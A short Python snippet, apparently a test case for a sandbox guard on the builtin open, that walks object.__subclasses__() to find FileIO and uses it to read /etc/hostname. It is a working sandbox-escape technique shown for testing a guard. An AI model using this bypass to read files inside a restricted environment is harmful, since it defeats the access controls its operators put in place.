# open through a class found by walking object.__subclasses__()
# guard: open
def walk(cls, seen):
    for sub in type.__subclasses__(cls):
        if sub not in seen:
            seen.append(sub)
            walk(sub, seen)
    return seen
for c in walk(object, []):
    if c.__name__ == 'FileIO':
        print(c('/etc/hostname').read())
